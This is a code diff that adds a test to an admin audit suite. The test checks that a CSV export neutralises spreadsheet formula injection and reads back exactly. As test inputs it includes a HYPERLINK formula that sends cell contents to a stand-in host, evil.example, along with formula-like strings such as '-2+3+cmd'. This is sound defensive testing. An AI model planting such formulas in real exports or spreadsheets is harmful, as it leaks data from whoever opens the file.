@@ -130,3 +130,21 @@ async def test_administrative_changes_appear_in_the_trail_with_before_and_after(
     [row] = (await client.get("/admin/audit", params=params, headers=admin.headers)).json()["rows"]
     assert row["entity_id"] == demo.users["support2"] and row["actor_id"] == demo.users["admin"]
     assert row["details"]["after"]["display_name"] == "Sam" and row["details"]["before"]["display_name"] != "Sam"
+
+
+async def test_the_csv_export_has_no_cell_a_spreadsheet_would_run_and_reads_back_exactly(client, login, runtime):
+    from doctordesk.domain.csv_cells import FORMULA_STARTS, restore
+
+    admin = await login("admin")
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    created = await client.post("/admin/locations", json={"name": name, "timezone": "UTC"}, headers=admin.headers)
+    assert created.status_code == 201, created.text
+    now = runtime.clock.now()
+    async with runtime.db.transaction() as session:  # every text cell is held to the rule, not only the names
+        audit(session, at=now, actor_id=None, action="-2+3+cmd", entity="@x", entity_id=None, details={})
+    response = await client.get("/admin/audit/export", params={"format": "csv"}, headers=admin.headers)
+    rows = list(csv.reader(io.StringIO(response.text, newline="")))
+    assert all(not cell or cell[0] not in FORMULA_STARTS for row in rows for cell in row)
+    read = [[restore(cell) for cell in row] for row in rows]
+    assert ["-2+3+cmd", "@x"] in [row[3:5] for row in read]
+    assert any(json.loads(row[6]).get("after", {}).get("name") == name for row in read[1:] if row[6] != "{}")
